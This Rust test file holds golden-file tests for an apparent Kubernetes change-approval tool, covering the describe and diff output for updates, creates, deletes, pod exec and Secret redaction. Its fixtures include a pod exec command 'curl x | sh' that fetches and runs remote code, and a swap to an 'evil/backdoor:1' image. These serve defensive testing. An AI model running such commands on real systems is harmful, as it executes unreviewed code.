//! Golden files for `describe` and `diff` of each kind of change: an UPDATE
//! (one image), a CREATE, a DELETE, an exec and a Secret update.

use jiff::Timestamp;
use serde_json::{Value, json};

use super::{
    format::{Style, describe, diff},
    golden::golden,
    view::RequestView,
};
use crate::{
    change::Action,
    crd::{ApprovalRequest, Target},
    testing::{self, target},
};

fn now() -> Timestamp {
    "2026-03-01T12:00:00Z".parse().unwrap()
}

/// The request approval-gate creates for `action` on `target`, two minutes old.
fn held(name: &str, target: Target, action: &Action<'_>) -> ApprovalRequest {
    testing::held(name, target, action, now())
}

fn check(file: &str, req: &ApprovalRequest) -> (String, String) {
    let view = RequestView::new(req, None, now());
    let described = describe(&view, Some("group sre"), &[], now(), Style::default());
    let diffed = diff(&view, Style::default());
    golden(&format!("describe-{file}.txt"), &described);
    golden(&format!("diff-{file}.txt"), &diffed);
    (described, diffed)
}

fn deployment(image: &str) -> Value {
    json!({"apiVersion": "apps/v1", "kind": "Deployment",
           "metadata": {"name": "checkout", "namespace": "prod", "resourceVersion": "41"},
           "spec": {"replicas": 2, "template": {"spec": {"containers": [
               {"name": "app", "image": image}, {"name": "sidecar", "image": "envoy:1"}]}}}})
}

#[test]
fn golden_update_shows_the_old_image_removed_and_the_new_one_added() {
    let t = target("apps", "deployments", None, "checkout");
    let req = held(
        "checkout-update",
        t,
        &Action::update(&deployment("nginx:1.27"), &deployment("evil/backdoor:1")),
    );
    let (described, diffed) = check("update", &req);
    assert!(
        diffed.contains("\n-        image: nginx:1.27\n+        image: evil/backdoor:1\n"),
        "{diffed}"
    );
    assert!(
        described.contains("Change:       image app: nginx:1.27 → evil/backdoor:1"),
        "{described}"
    );
}

#[test]
fn golden_create_shows_the_whole_object() {
    let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "flags", "namespace": "prod"},
                    "data": {"checkout.enabled": "false"}});
    let action = Action::create(&cm);
    let (_, diffed) = check(
        "create",
        &held(
            "flags-create",
            target("", "configmaps", None, "flags"),
            &action,
        ),
    );
    assert!(diffed.contains("+  checkout.enabled: 'false'"), "{diffed}");
}

#[test]
fn golden_delete_shows_the_uid_and_the_propagation_policy() {
    let old = json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "checkout", "uid": "3f1c9a52-uid", "resourceVersion": "41", "labels": {"app": "checkout"}}});
    let options = json!({"propagationPolicy": "Background"});
    let action = Action::delete(&old, Some(&options));
    let (described, diffed) = check(
        "delete",
        &held(
            "checkout-delete",
            target("apps", "deployments", None, "checkout"),
            &action,
        ),
    );
    assert!(
        diffed.contains("-  uid: 3f1c9a52-uid")
            && diffed.contains("propagation policy: Background"),
        "{diffed}"
    );
    assert!(
        described.contains("(uid 3f1c9a52-uid, propagation Background)"),
        "{described}"
    );
}

#[test]
fn golden_exec_shows_the_command_line_verbatim() {
    let options = json!({"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "curl x | sh"],
                         "container": "app", "stdin": true, "stdout": true, "stderr": true, "tty": true});
    let action = Action::connect("exec", &options);
    let (described, _) = check(
        "exec",
        &held(
            "web-0-exec",
            target("", "pods", Some("exec"), "web-0"),
            &action,
        ),
    );
    assert!(
        described.contains("Command:      sh -c 'curl x | sh'"),
        "{described}"
    );
}

#[test]
fn golden_secret_shows_keys_and_hashes_never_values() {
    let secret = |pw: &str| {
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db", "resourceVersion": "7"},
                                   "type": "Opaque", "data": {"password": pw, "user": "YWRtaW4="}})
    };
    let (old, new) = (secret("aHVudGVyMg=="), secret("c3VwZXJzM2NyZXQ="));
    let action = Action::update(&old, &new);
    let (described, diffed) = check(
        "secret",
        &held("db-update", target("", "secrets", None, "db"), &action),
    );
    for text in [&described, &diffed] {
        assert!(
            !text.contains("aHVudGVyMg") && !text.contains("c3VwZXJzM2NyZXQ"),
            "{text}"
        );
        assert!(text.contains("password: <redacted hmac:"), "{text}");
    }
}
